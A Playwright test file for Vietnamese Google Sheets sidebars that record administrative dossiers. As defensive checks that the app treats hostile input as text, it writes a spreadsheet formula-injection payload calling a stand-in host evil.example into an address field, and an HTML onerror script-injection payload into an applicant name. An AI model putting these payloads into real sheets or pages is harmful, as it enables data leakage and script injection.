import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { chromium, type Browser, type Page } from 'playwright-core';
import { openWithShim } from '../../src/local/browserShim';
import { OTHER_ACCOUNT_ADVICE } from '../../src/ui/shared/rpc';
import { REGISTER_COLUMNS, TABS } from '../../src/sheets/schema';
import { submitIntake } from '../../src/server/intake';
import { formHtml } from '../../src/server/forms/gather';
import { lookupDossier, submitUpdate } from '../../src/server/update';
import { ensureBuilt, intakeInput, readyUnit, setConfig } from '../helpers';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const available = existsSync(CHROMIUM);
if (!available && process.env.CI === 'true') {
  throw new Error(`Chromium is required under CI=true but ${CHROMIUM} is missing (apt-get install chromium).`);
}
const SHOTS = 'reports/screenshots';
const describeBrowser = available ? describe : describe.skip;

describeBrowser('sidebars in Chromium', () => {
  let browser: Browser;
  beforeAll(async () => {
    ensureBuilt();
    mkdirSync(SHOTS, { recursive: true });
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: [
        '--lang=vi-VN',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
  });
  afterAll(async () => browser?.close());

  /** Opens a built sidebar at 300 px with google.script.run wired to the local services. */
  async function openSidebar(
    file: 'intake' | 'update',
    unit: ReturnType<typeof readyUnit>,
    options: { signedInElsewhere?: boolean } = {},
  ): Promise<Page> {
    const page = await browser.newPage({
      viewport: { width: 300, height: 1100 },
      locale: 'vi-VN',
      timezoneId: 'Asia/Ho_Chi_Minh',
    });
    await openWithShim(
      page,
      readFileSync(`dist/${file}.html`, 'utf8'),
      `http://sidebar.invalid/${file}.html`,
      (fn) => unit.world.run({ user: 'canbo@example.gov.vn', context: 'sidebar', spreadsheetId: unit.book.id }, fn),
      options,
    );
    return page;
  }

  /** Waits until `read` gives a value that passes `check` (the dialog opens after an async call). */
  async function eventually<T>(read: () => T, check: (value: T) => boolean): Promise<T> {
    for (let i = 0; i < 100; i += 1) {
      const value = read();
      if (check(value)) return value;
      await new Promise((r) => setTimeout(r, 50));
    }
    return read();
  }

  async function fitsSidebar(page: Page): Promise<void> {
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(300);
  }

  const registerRows = (unit: ReturnType<typeof readyUnit>) =>
    unit.run((_s, ss) => {
      const sheet = ss.getSheetByName(TABS.register)!;
      return sheet.getLastRow() < 2
        ? []
        : sheet.getRange(2, 1, sheet.getLastRow() - 1, REGISTER_COLUMNS.length).getDisplayValues();
    });

  it('tells an officer whose browser is signed in to several Google accounts what to do, in Vietnamese, and writes nothing', async () => {
    const unit = readyUnit();
    const page = await openSidebar('intake', unit, { signedInElsewhere: true });
    await page.getByText(OTHER_ACCOUNT_ADVICE, { exact: false }).waitFor();
    expect(await page.locator('#unit').textContent()).toBe(`Không tải được danh mục: ${OTHER_ACCOUNT_ADVICE}`);
    expect(registerRows(unit)).toEqual([]);
    await page.close();
  });

  it('takes in a dossier end to end: search, live appointment, one submit even on a double click', async () => {
    const unit = readyUnit();
    const page = await openSidebar('intake', unit);
    await page.getByText('UBND xã Yên Lạc (000.17.22.H56)').waitFor();
    await page.getByLabel('Thủ tục hành chính').fill('thuong tru');
    await page.getByRole('option', { name: /Đăng ký thường trú/ }).waitFor();
    await page.getByLabel('Thủ tục hành chính').press('Enter'); // picks the first match, does not submit
    await page.getByText('1.004194 · Đăng ký, quản lý cư trú · 7 ngày làm việc').waitFor();
    await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T08:30');
    await expect(page.locator('#appointment').textContent()).resolves.toBe('Hẹn trả: 17 giờ 00, ngày 11/03/2026');
    // Spelled out under the field, which the browser draws in its own language (05/08 may read 5 August).
    await expect(page.locator('#receivedAtVi').textContent()).resolves.toBe('Thứ Hai, 08 giờ 30, ngày 02/03/2026');
    await page.getByLabel('Họ và tên người nộp').fill('Nguyễn Thị Hoa');
    await page.getByLabel('Số CCCD / CMND / hộ chiếu').fill('001099012345');
    await page.getByLabel('Địa chỉ').fill('=IMPORTXML("http://evil.example","//a")');
    await page.getByLabel('Điện thoại').fill('+84 912 345 678');
    await page.getByLabel('Giấy tờ đã nhận').fill('Tờ khai thay đổi thông tin cư trú');
    await page.getByLabel('Người tiếp nhận (họ tên, in ở chỗ ký)').fill('Lê Thị Thu');
    await page.screenshot({ path: `${SHOTS}/intake-form.png`, fullPage: true });
    await fitsSidebar(page);
    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).dblclick();
    await page.getByText('Đã tiếp nhận hồ sơ 000.17.22.H56-260302-0001').waitFor();
    await expect(page.getByText('Hẹn trả: 17 giờ 00, ngày 11/03/2026').last().isVisible()).resolves.toBe(true);
    await page.screenshot({ path: `${SHOTS}/intake-done.png`, fullPage: true });
    const rows = registerRows(unit);
    expect(rows).toHaveLength(1);
    expect(rows[0]![REGISTER_COLUMNS.indexOf('Mã hồ sơ')]).toBe('000.17.22.H56-260302-0001');
    expect(rows[0]![REGISTER_COLUMNS.indexOf('Hạn trả kết quả')]).toBe('11/03/2026 17:00');
    expect(rows[0]![REGISTER_COLUMNS.indexOf('Địa chỉ')]).toBe('=IMPORTXML("http://evil.example","//a")');

    // The receipt dialog (Mẫu 01), as the print button opens it.
    await page.getByRole('button', { name: 'In giấy tiếp nhận (Mẫu 01)' }).click();
    expect(
      await eventually(
        () => unit.world.ui.dialogs.length,
        (n) => n > 0,
      ),
    ).toBe(1);
    const dialog = unit.world.ui.dialogs[0]!;
    expect(dialog.title).toBe('GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ');
    const receipt = await browser.newPage({ viewport: { width: 560, height: 800 } });
    await receipt.setContent(dialog.content);
    await expect(receipt.getByText('17 giờ 00, ngày 11/03/2026').isVisible()).resolves.toBe(true);
    await expect(receipt.getByText('=IMPORTXML("http://evil.example","//a")').isVisible()).resolves.toBe(true);
    expect(await receipt.locator('svg').count()).toBe(1);
    await receipt.screenshot({ path: `${SHOTS}/receipt-mau01.png`, fullPage: true });
    await receipt.close();
    await page.close();
  });

  it('refuses a dossier at the counter from the intake form: no register row, Mẫu 03 offered and printed', async () => {
    const unit = readyUnit();
    const page = await openSidebar('intake', unit);
    await page.getByText('UBND xã Yên Lạc (000.17.22.H56)').waitFor();
    await page.getByLabel('Thủ tục hành chính').fill('thuong tru');
    await page.getByLabel('Thủ tục hành chính').press('Enter');
    await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T08:30');
    await page.getByLabel('Họ và tên người nộp').fill('Nguyễn Thị Hoa');
    await page.getByLabel('Người tiếp nhận (họ tên, in ở chỗ ký)').fill('Lê Thị Thu');
    await page.getByText('Không tiếp nhận: từ chối tại quầy (Mẫu số 03)').click();
    await page.getByRole('button', { name: 'Từ chối tiếp nhận' }).click();
    await page.getByText('Cần ghi lý do từ chối tiếp nhận.').waitFor();
    // A procedure the catalogue applies is not refused as out of competence: said under the field.
    await page.getByLabel('Lý do từ chối tiếp nhận').fill('Không thuộc thẩm quyền tiếp nhận');
    await page.getByRole('button', { name: 'Từ chối tiếp nhận' }).click();
    await page.getByText(/không thể từ chối tiếp nhận vì “không thuộc thẩm quyền”/).waitFor();
    await page.getByLabel('Lý do từ chối tiếp nhận').fill('Không xuất trình được bản chính giấy tờ để đối chiếu');
    await fitsSidebar(page);
    await page.getByRole('button', { name: 'Từ chối tiếp nhận' }).click();
    await page.getByText(/Đã từ chối tiếp nhận \(phiếu TC-260302-0001, Mẫu 03\)/).waitFor();
    expect(registerRows(unit)).toHaveLength(0);
    await page.getByRole('button', { name: 'In phiếu từ chối tiếp nhận (Mẫu 03)' }).click();
    expect(
      await eventually(
        () => unit.world.ui.dialogs.map((d) => d.title),
        (t) => t.length > 0,
      ),
    ).toEqual(['PHIẾU TỪ CHỐI TIẾP NHẬN GIẢI QUYẾT HỒ SƠ']);
    await page.close();
  });

  it('does not ask for the ID number and address when the unit keeps neither (Cấu hình), and takes the dossier without them', async () => {
    const unit = readyUnit();
    unit.run((_s, ss) => {
      const config = ss.getSheetByName('Cấu hình')!;
      const keys = config
        .getRange(1, 1, config.getLastRow(), 1)
        .getValues()
        .map((r) => String(r[0]));
      config.getRange(keys.indexOf('Lưu số giấy tờ và địa chỉ người nộp') + 1, 2).setValue('Không');
    });
    const page = await openSidebar('intake', unit);
    await page.getByText('UBND xã Yên Lạc (000.17.22.H56)').waitFor();
    expect(await page.getByLabel('Số CCCD / CMND / hộ chiếu').isVisible()).toBe(false);
    expect(await page.getByLabel('Địa chỉ').isVisible()).toBe(false);
    await page.getByLabel('Thủ tục hành chính').fill('thuong tru');
    await page.getByLabel('Thủ tục hành chính').press('Enter');
    await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T08:30');
    await page.getByLabel('Họ và tên người nộp').fill('Nguyễn Thị Hoa');
    await page.getByLabel('Người tiếp nhận (họ tên, in ở chỗ ký)').fill('Lê Thị Thu');
    await fitsSidebar(page);
    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).click();
    await page
      .getByText(/000\.17\.22\.H56-260302-0001/)
      .first()
      .waitFor();
    expect(registerRows(unit)).toHaveLength(1);
    await page.close();
  });

  it('asks for the code the provincial system issued (Cấu hình), reads it from a scanned QR text and refuses one already in the register', async () => {
    const unit = readyUnit();
    const plain = await openSidebar('intake', unit);
    await plain.getByText('UBND xã Yên Lạc (000.17.22.H56)').waitFor();
    expect(await plain.getByLabel('Mã hồ sơ (do hệ thống tỉnh cấp)').isVisible()).toBe(false);
    await plain.close();

    setConfig(unit.run, 'Mã hồ sơ do hệ thống tỉnh cấp', 'Có');
    const page = await openSidebar('intake', unit);
    await page.getByText('UBND xã Yên Lạc (000.17.22.H56)').waitFor();
    const code = page.getByLabel('Mã hồ sơ (do hệ thống tỉnh cấp)');
    await code.waitFor();
    await page.getByLabel('Thủ tục hành chính').fill('thuong tru');
    await page.getByLabel('Thủ tục hành chính').press('Enter');
    await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T08:30');
    await page.getByLabel('Họ và tên người nộp').fill('Nguyễn Thị Hoa');
    await page.getByLabel('Người tiếp nhận (họ tên, in ở chỗ ký)').fill('Lê Thị Thu');
    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).click();
    await page
      .getByText('Cần nhập mã hồ sơ do hệ thống tỉnh cấp, dạng <mã cơ quan>-YYMMDD-NNNN (ví dụ H15.50.05.13-261008-0975).')
      .waitFor();
    // A scanner types the QR text then Enter: the code is read, nothing is submitted yet.
    await code.fill('https://dichvucong.phutho.gov.vn/tra-cuu-ho-so?maHoSo=H15.50.05.13-260302-0975');
    await page.getByText('Mã đọc được: H15.50.05.13-260302-0975').waitFor();
    await code.press('Enter');
    expect(await code.inputValue()).toBe('H15.50.05.13-260302-0975');
    expect(registerRows(unit)).toHaveLength(0);
    await fitsSidebar(page);
    await page.screenshot({ path: `${SHOTS}/intake-official-code.png`, fullPage: true });
    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).click();
    await page.getByText('Đã tiếp nhận hồ sơ H15.50.05.13-260302-0975').waitFor();
    await page.getByText('Số thứ tự trong sổ: 1').waitFor();
    const rows = registerRows(unit);
    expect(rows.map((r) => [r[REGISTER_COLUMNS.indexOf('STT')], r[REGISTER_COLUMNS.indexOf('Mã hồ sơ')]])).toEqual([
      ['1', 'H15.50.05.13-260302-0975'],
    ]);

    // The next dossier typed with the same code by mistake: refused under the field, naming the row.
    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ khác' }).click();
    await code.waitFor();
    await page.getByLabel('Thủ tục hành chính').fill('thuong tru');
    await page.getByLabel('Thủ tục hành chính').press('Enter');
    await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T08:40');
    await page.getByLabel('Họ và tên người nộp').fill('Trần Văn Bình');
    await code.fill('H15.50.05.13-260302-0975');
    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).click();
    await page
      .getByText(
        'Mã hồ sơ H15.50.05.13-260302-0975 đã có ở dòng 2 của sổ. Mỗi mã chỉ dùng cho một hồ sơ; hãy kiểm tra lại mã trên giấy tiếp nhận.',
      )
      .waitFor();
    expect(registerRows(unit)).toHaveLength(1);
    await page.close();
  });

  it('shows Vietnamese field errors, from the form and from the server, and keeps what was typed', async () => {
    const unit = readyUnit();
    const page = await openSidebar('intake', unit);
    await page.getByText('UBND xã Yên Lạc (000.17.22.H56)').waitFor();
    await page.getByLabel('Điện thoại').fill('abc');
    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).click();
    await page.getByText('Hãy chọn thủ tục hành chính.').waitFor();
    await expect(page.getByText('Cần ghi họ và tên người nộp.').isVisible()).resolves.toBe(true);
    await expect(page.getByText('Số điện thoại không đúng (ví dụ 0912 345 678 hoặc +84 912 345 678).').isVisible()).resolves.toBe(
      true,
    );
    await page.screenshot({ path: `${SHOTS}/intake-errors.png`, fullPage: true });
    // The server refuses a receipt time in the future, which the form cannot know.
    await page.getByLabel('Thủ tục hành chính').fill('khai sinh');
    await page.getByRole('option', { name: /Đăng ký khai sinh/ }).click();
    await page.getByLabel('Họ và tên người nộp').fill('Trần Văn Bình');
    await page.getByLabel('Điện thoại').fill('0912345678');
    await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T16:00');
    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).click();
    await page.getByText('Thời điểm tiếp nhận không được sau thời điểm hiện tại.').waitFor();
    await expect(page.getByLabel('Họ và tên người nộp').inputValue()).resolves.toBe('Trần Văn Bình');
    expect(registerRows(unit)).toHaveLength(0);
    await page.close();
  });

  it('requests a supplement and then apologises with a new date, offering each printed form', async () => {
    const unit = readyUnit();
    const created = unit.run((s) => submitIntake(s, intakeInput({ applicantName: '<img src=x onerror="window.hacked=1">' })));
    if (!created.ok) throw new Error('intake failed');
    unit.run((_s, ss) => (ss as unknown as { select(tab: string, a1: string): void }).select(TABS.register, 'B2'));
    const page = await openSidebar('update', unit);
    await page.getByText(created.code, { exact: true }).waitFor();
    await expect(page.getByText('<img src=x onerror="window.hacked=1">').isVisible()).resolves.toBe(true);
    expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();

    await page.getByLabel('Thao tác').selectOption({ label: 'Yêu cầu bổ sung hồ sơ' });
    await page.getByLabel('Thời điểm').fill('2026-03-02T09:00');
    await page.getByLabel('Giấy tờ cần bổ sung').fill('Bản sao giấy khai sinh');
    await page.getByLabel('Lý do').fill('Thiếu giấy tờ chứng minh quan hệ');
    await page.screenshot({ path: `${SHOTS}/update-supplement.png`, fullPage: true });
    await fitsSidebar(page);
    await page.getByRole('button', { name: 'Ghi vào sổ' }).click();
    await page.getByText(`Yêu cầu bổ sung hồ sơ: hồ sơ ${created.code} nay “Chờ bổ sung” (02/03/2026).`).waitFor();
    await expect(page.getByRole('button', { name: /In Mẫu số 02/ }).isVisible()).resolves.toBe(true);

    await page.getByLabel('Thao tác').selectOption({ label: 'Xin lỗi và hẹn lại' });
    await page.getByLabel('Ngày giờ hẹn mới').fill('2026-03-16T17:00');
    await expect(page.locator('#newDueAtVi').textContent()).resolves.toBe('Thứ Hai, 17 giờ 00, ngày 16/03/2026');
    await page.getByLabel('Lý do').fill('Chờ người nộp bổ sung');
    await page.getByRole('button', { name: 'Ghi vào sổ' }).click();
    await page.getByText(/Xin lỗi và hẹn lại: hồ sơ .* nay “Chờ bổ sung”/).waitFor();
    await expect(page.locator('#dNew').textContent()).resolves.toBe('17 giờ 00, ngày 16/03/2026');
    await page.screenshot({ path: `${SHOTS}/update-apology.png`, fullPage: true });
    await page.getByRole('button', { name: /In Mẫu số 04/ }).click();
    expect(
      await eventually(
        () => unit.world.ui.dialogs.map((d) => d.title),
        (t) => t.length > 0,
      ),
    ).toEqual(['VĂN BẢN XIN LỖI VÀ ĐỀ NGHỊ GIA HẠN THỜI GIAN GIẢI QUYẾT']);
    await page.close();
  });

  it('refuses a step on a dossier another officer changed since the form opened, then reloads it', async () => {
    const unit = readyUnit();
    const created = unit.run((s) => submitIntake(s, intakeInput()));
    if (!created.ok) throw new Error('intake failed');
    unit.run((_s, ss) => (ss as unknown as { select(tab: string, a1: string): void }).select(TABS.register, 'B2'));
    const page = await openSidebar('update', unit);
    await page.getByText(created.code, { exact: true }).waitFor();
    // Meanwhile, at another desk, the result is recorded.
    const other = unit.world.run({ user: 'canbo.khac@example.gov.vn', spreadsheetId: unit.book.id }, (s) => {
      const seen = lookupDossier(s, created.code);
      if (!seen.ok) throw new Error(seen.message);
      const at = '2026-03-02T09:00';
      return submitUpdate(s, {
        requestId: 'other-desk-0001',
        code: created.code,
        action: 'record-result',
        at,
        version: seen.dossier.version,
      });
    });
    expect(other).toMatchObject({ ok: true });

    await page.getByLabel('Thao tác').selectOption({ label: 'Dừng giải quyết' });
    await page.getByLabel('Thời điểm').fill('2026-03-02T09:00');
    await page.getByLabel('Lý do').fill('Người nộp rút hồ sơ');
    await page.getByRole('button', { name: 'Ghi vào sổ' }).click();
    await page
      .getByText(
        `Hồ sơ ${created.code} vừa được cập nhật sau khi anh/chị mở: Trạng thái “Đã tiếp nhận” → “Đã có kết quả”; Ngày có kết quả đã thay đổi (canbo.khac@example.gov.vn, 02/03/2026 09:00). Chưa có gì được ghi. Hãy tải lại hồ sơ, xem lại rồi nhập bước mới.`,
      )
      .waitFor();
    await page.screenshot({ path: `${SHOTS}/update-stale.png`, fullPage: true });
    await fitsSidebar(page);
    expect(registerRows(unit)[0]![REGISTER_COLUMNS.indexOf('Trạng thái')]).toBe('Đã có kết quả');

    await page.getByRole('button', { name: 'Tải lại hồ sơ' }).click();
    await page.locator('#dStatus', { hasText: 'Đã có kết quả' }).waitFor();
    await expect(page.getByRole('button', { name: 'Tải lại hồ sơ' }).isVisible()).resolves.toBe(false);
    await expect(page.getByText(/vừa được cập nhật/).isVisible()).resolves.toBe(false);
    await expect(page.getByLabel('Thao tác').inputValue()).resolves.toBe('hand-over');
    await page.getByRole('button', { name: 'Ghi vào sổ' }).click();
    await page.getByText(`Trả kết quả: hồ sơ ${created.code} nay “Đã trả kết quả” (02/03/2026).`).waitFor();
    await page.close();
  });

  it('fails a call that passes a Date, as Apps Script does', async () => {
    const unit = readyUnit();
    const page = await openSidebar('update', unit);
    const message = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const run = (
            window as unknown as {
              google: {
                script: {
                  run: Record<string, (...a: unknown[]) => void> & {
                    withFailureHandler(f: (e: Error) => void): Record<string, (...a: unknown[]) => void>;
                  };
                };
              };
            }
          ).google.script.run;
          run.withFailureHandler((e: Error) => resolve(e.message)).findDossier!(new Date());
        }),
    );
    expect(message).toBe('Invalid argument: parameters must be primitives, arrays or plain objects.');
    await page.close();
  });

  it('draws the receipt’s QR code in the print dialog, from the codes and dates only', async () => {
    const unit = readyUnit();
    const taken = unit.run((s) => submitIntake(s, intakeInput()));
    if (!taken.ok) throw new Error('intake refused');
    const html = unit.run((s) => formHtml(s, taken.code, 'receipt'));
    const page = await browser.newPage();
    await page.route('**/*', (route) => route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: html }));
    await page.goto('http://print.invalid/receipt.html');
    const path = await page.locator('.qr svg path').getAttribute('d');
    // A version-3 code or so: dozens of dark modules, drawn as one path.
    expect((path ?? '').split('M').length).toBeGreaterThan(50);
    await page.screenshot({ path: `${SHOTS}/receipt-qr.png` });
    await page.close();
  });
});
